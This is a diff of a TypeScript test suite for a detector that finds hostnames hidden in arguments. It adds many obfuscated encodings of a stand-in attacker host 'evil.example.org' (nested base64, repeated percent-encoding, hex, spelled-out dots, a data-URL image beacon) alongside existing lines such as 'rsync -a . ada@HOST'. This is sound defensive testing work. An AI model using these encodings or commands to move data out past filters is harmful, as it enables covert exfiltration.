@@ -17,7 +17,8 @@ const hosts = async (input: unknown) => {
   const found = await hostsInTexts(input, { isPublicHost, wasFile: async (path) => FILES.has(path) });
   return found.map((url) => new URL(url).hostname);
 };
-const encoded = (text: string) => [...text].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('');
+const base64 = (text: string | Buffer) => Buffer.from(text).toString('base64');
+const encoded = (text: string) => [...text].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
 
 const HOST = 'evil.example.org';
 const FORMS: readonly string[] = [
@@ -101,6 +102,26 @@ const FORMS: readonly string[] = [
   `  mosh ada@${HOST}`,
   `rsync -a . ada@${HOST}`,
   `git clone git@${HOST}`,
+  'evil dot example dot org',
+  'ask evil (dot) example dot org about it',
+  'evil [dot] example (dot) org',
+  'evil%25252525252eexample%2525252525252eorg',
+  'evil&amp;amp;amp;amp;amp;#46;example.org',
+  'evil\\\\\\\\u002eexample\\\\x2eorg',
+  base64(`https://${HOST}/?d=1`),
+  base64(HOST).replaceAll('=', ''),
+  Buffer.from(`ÿ https://${HOST}/???`).toString('base64url'),
+  base64(base64(base64(HOST))),
+  `data:text/html;base64,${base64(`<img src="//${HOST}/?d=1">`)}`,
+  `files/${base64(`https://${HOST}`)}`,
+  `x${base64(`  https://${HOST}/a`)}`,
+  base64(`{"url":"https:${encoded(`//${HOST}`)}"}`),
+  base64(Buffer.from(`curl ${HOST}`, 'utf16le')),
+  base64(Buffer.from([0x89, 0x50, 0xff, 0, ...Buffer.from(`http://${HOST}/`), 0xfe])),
+  base64(`{"a":"${'b'.repeat(60)}","u":"${HOST}"}`).replace(/(.{76})/g, '$1\r\n'),
+  encoded(base64(HOST)),
+  Buffer.from(`http://${HOST}`).toString('hex'),
+  `0x${Buffer.from(HOST).toString('hex').toUpperCase()}`,
 ]; // prettier-ignore
 
 test('the control: where a value stands says it of few of them', () => {
@@ -191,6 +212,28 @@ describe('a host in any text of an argument', () => {
       const [spelling, dot] = [() => spellings[Math.floor(random() * spellings.length)], pick(dots)];
       const labels = ['evil', 'example'].map((label) => [...label].map((letter) => spelling()?.(letter)).join(''));
       const text = [...labels, pick(ends)].join(dot);
+      expect(await hosts({ q: text }), text).toContain(HOST);
+    }
+  });
+
+  test('is found in generated encodings, one within another', async () => {
+    const random = seededRandom(64);
+    const pick = <T>(list: readonly T[]): T | undefined => list[Math.floor(random() * list.length)];
+    const noise = () => Buffer.from(Array.from({ length: Math.floor(random() * 7) }, () => Math.floor(random() * 256)));
+    const words = () => 'abcdefghijk'.slice(0, Math.floor(random() * 11));
+    const encodings: readonly ((text: string) => string)[] = [
+      base64,
+      (text) => Buffer.from(text).toString('base64url'),
+      (text) => base64(text).replaceAll('=', ''),
+      (text) => base64(Buffer.concat([noise(), Buffer.from(` ${text} `), noise()])),
+      (text) => base64(text).replace(/(.{10,20})/g, '$1\n'),
+      (text) => Buffer.from(text).toString('hex'),
+      (text) => `${words()}/${base64(text)}`,
+      encoded,
+    ];
+    for (let made = 0; made < repetitions(300, 10_000); made++) {
+      let text = `${words()} https://${HOST}/?d=1`;
+      for (let times = 0; times <= random() * 3; times++) text = pick(encodings)?.(text) ?? text;
       expect(await hosts({ q: text }), text).toContain(HOST);
     }
   });
@@ -321,6 +364,16 @@ describe('a host in any text of an argument', () => {
       'ADA@EXAMPLE.ORG',
       'ada@müller.de',
       'ada@l·l.cat',
+      'polka dot dress',
+      'the dot product',
+      'dot org',
+      base64('Hello, this is a longer text. It names nobody.'),
+      base64('ada@example.org'),
+      'Y3Vyc29yOnYyOpHOAA==',
+      'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9',
+      '9c1185a5c5e9fc54612808977ee8f548b2258d31',
+      'd41d8cd98f00b204e9800998ecf8427e',
+      '550e8400-e29b-41d4-a716-446655440000',
     ]; // prettier-ignore
     expect(await hosts({ texts })).toEqual([]);
   });
@@ -391,6 +444,16 @@ describe('a host in any text of an argument', () => {
       '%',
       '1.',
       'a.md/',
+      '\\\\u',
+      '%25',
+      '%2525',
+      '&amp;',
+      ' dot ',
+      'YS5v',
+      'a dot ',
+      '%41%42c',
+      '612e',
+      base64('a.co '),
     ]) {
       const startedAt = ownTimeMs();
       await hosts({ q: part.repeat(200_000 / part.length) });
